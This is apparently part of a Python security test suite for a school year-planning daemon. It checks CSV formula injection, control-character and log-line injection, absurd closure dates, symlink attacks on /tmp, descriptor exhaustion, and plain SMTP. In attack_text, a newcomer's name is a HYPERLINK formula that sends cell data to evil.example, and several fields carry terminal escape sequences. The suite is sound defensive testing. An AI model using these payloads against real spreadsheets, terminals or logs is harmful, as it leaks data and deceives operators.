# ---- round two, 4-7: formulas, control characters, endless closures, temporary files ----------
def page_session(d, person, school=SCHOOL):
    _, hdrs, _ = sign_in(d, person, school=school)
    return hdrs.get("Set-Cookie", "").split(";")[0]


def control_chars(data):
    return [hex(b) for b in data if (b < 0x20 and b not in (0x09, 0x0a, 0x0d)) or b == 0x7f]


def attack_text(d, toks):
    erik = toks["erik"]
    formula = '=HYPERLINK("https://evil.example/?d="&A1,"klik")'
    status, _, body = change(d, erik, SCHOOL, newcomer(formula, "formule@voorbeeld.nl",
                                                       groups=[{"group": "groep-3"}],
                                                       works=["ma", "di", "wo", "do", "vr"]))
    check("a newcomer whose name is a formula is stored (it is text)", status == 201,
          f"{status} {body}")
    cookie = page_session(d, "erik")
    status, _, csv = d.request("GET", "/jaarplanning.csv", headers={"Cookie": cookie})
    text = csv.decode("utf-8-sig")
    cells = [c.strip('"') for line in text.splitlines() for c in line.split(";")]
    named = [c for c in cells if "HYPERLINK" in c]
    check("the formula's name is in the CSV", status == 200 and len(named) > 0,
          f"{status} {len(named)}")
    check("no CSV cell starts with = + - @",
          not [c for c in cells if c[:1] in ("=", "+", "-", "@")],
          str([c for c in cells if c[:1] in ("=", "+", "-", "@")][:3]))
    # Control characters in typed names are refused at the field.
    for body, field in [
        (newcomer("Evil\x07\x1b[31mName", "evil@voorbeeld.nl"), "name"),
        (newcomer("Forged\n[info] school=x input version 9 by anna", "forged@voorbeeld.nl"),
         "name"),
        ({"kind": "closure", "from": "2027-03-11", "closure_kind": "vrij",
          "name": "Vrij\x07\x1b]0;pwned\x07\x00"}, "name"),
    ]:
        status, _, answer = change(d, erik, SCHOOL, body)
        check(f"a control character in {field} is refused at the field",
              field_error(status, answer, field, "stuurtekens"), f"{status} {answer}")
    # A closure until 9999-12-31.
    status, _, answer = change(d, erik, SCHOOL, {"kind": "closure", "from": "2027-07-12",
                                                 "to": "9999-12-31", "closure_kind": "vrij",
                                                 "name": "Altijd vrij"})
    check("a closure outside the school year is refused at 'to'",
          field_error(status, answer, "to", "buiten het schooljaar"), f"{status} {answer}")
    status, _, parents = d.request("GET", f"/scholen/{SCHOOL}/jaarrooster.ics")
    check("the parents' feed: 200", status == 200, str(status))
    check("the parents' feed has no invalid date", b":00000000" not in parents, "00000000")
    check("the parents' feed has no control character", not control_chars(parents),
          str(control_chars(parents)[:5]))
    for args in (["person", "hanna"], ["school"]):
        url = re.findall(r"http://[^\s]+/feeds/[^\s]+\.ics",
                         cli("subscribe", "--config", CONFIG, SCHOOL, *args))[0]
        path = urllib.parse.urlparse(url).path
        status, _, feed = eventually(lambda: (lambda r: r if r[0] == 200 else None)(
            d.request("GET", path))) or d.request("GET", path)
        check(f"feed {args[0]}: no control character", status == 200 and not control_chars(feed),
              f"{status} {control_chars(feed)[:5]}")


def attack_tmpfile(d):
    # The daemon's former name for its temporary workbook: /tmp/jaarplanning-<pid>-<n>.xlsx.
    victim = os.path.join(WORK, "victim.txt")
    with open(victim, "w") as f:
        f.write("niet overschrijven\n")
    planted = []
    for n in range(40):
        path = f"/tmp/jaarplanning-{d.proc.pid}-{n}.xlsx"
        try:
            os.symlink(victim, path)
            planted.append(path)
        except FileExistsError:
            pass
    cookie = page_session(d, "anna")
    try:
        status, hdrs, xlsx = d.request("GET", "/jaarplanning.xlsx", headers={"Cookie": cookie})
        check("the xlsx export still works", status == 200 and xlsx[:2] == b"PK",
              f"{status} {xlsx[:40]}")
        check("a planted symlink in /tmp is not followed",
              open(victim, "rb").read() == b"niet overschrijven\n",
              repr(open(victim, "rb").read()[:40]))
    finally:
        for p in planted:
            if os.path.lexists(p):
                os.unlink(p)


def attack_log(d):
    log = open(d.log_path, "rb").read()
    check("the daemon's log holds no control character", not control_chars(log.replace(b"\r", b"")),
          str(control_chars(log)[:5]))

# ---- 7: the connection cap -----------------------------------------------------------------
def attack_connections(d):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, 4096)), hard))
    conns = []
    for _ in range(DAEMON_NOFILE + 150):
        try:
            conns.append(socket.create_connection(("127.0.0.1", d.port), timeout=2))
        except OSError:
            break
    time.sleep(0.5)
    t0 = time.time()
    try:
        status, _, _ = d.request("GET", "/healthz", timeout=5)
    except OSError as e:
        status = str(e)
    check("healthz answers with the descriptor table full of idle connections", status == 200,
          str(status))
    print(f"healthz after {len(conns)} idle connections: {(time.time() - t0) * 1000:.1f} ms")
    for c in conns:
        c.close()
    log = open(d.log_path).read()
    check("accept does not spin on EMFILE", log.count("Too many open files") < 5,
          str(log.count("Too many open files")))


# ---- SMTP without TLS only on loopback -------------------------------------------------------
def attack_plain_smtp():
    bad = os.path.join(WORK, "plain.toml")
    with open(bad, "w") as f:
        f.write('[server]\nport = 0\n[store]\nsqlite = "var/plain.db"\n'
                '[calendars]\nfolder = "calendars"\n[mail]\nmode = "smtp"\n'
                'url = "smtp://mail.example.org:587"\nrequire_starttls = false\n')
    try:
        r = subprocess.run([BIN, "serve", "--config", bad], capture_output=True, text=True,
                           timeout=20)
        check("require_starttls = false off loopback is refused",
              r.returncode != 0 and "require_starttls" in r.stderr and "plain.toml:" in r.stderr,
              f"{r.returncode} {r.stderr[:300]}")
    except subprocess.TimeoutExpired:  # it started: plain SMTP over the network was accepted
        check("require_starttls = false off loopback is refused", False, "the daemon started")


def main():
    setup()
    toks = {p: token(SCHOOL, p) for p in ("anna", "erik", "fatima", "bram", "carla", "dirk")}
    toks.update({p + "@" + OTHER: token(OTHER, p) for p in ("anna", "erik")})
    attack_plain_smtp()
    d = Daemon()
    try:
        attack_chunk_extension(d)
        attack_framing(d)
        attack_rights(d, toks)
        attack_leaks(d, toks)
        attack_held_on(d, toks)
        attack_notes(d, toks)
        attack_pages(d)
        attack_grant(d, toks)
        attack_leaver(d, toks)
        attack_preview_cost(d, toks)
        attack_text(d, toks)
        attack_tmpfile(d)
        attack_write_path(d, toks)
        attack_sign_in(d)
        attack_log(d)
        attack_private_in_log(d, toks)
        attack_formatie(d, toks)  # last of the writers: its uploads use up the accounts' burst
        attack_connections(d)
    finally:
        d.stop()
    shutil.rmtree(WORK, ignore_errors=True)
    check.finish()


if __name__ == "__main__":
    main()
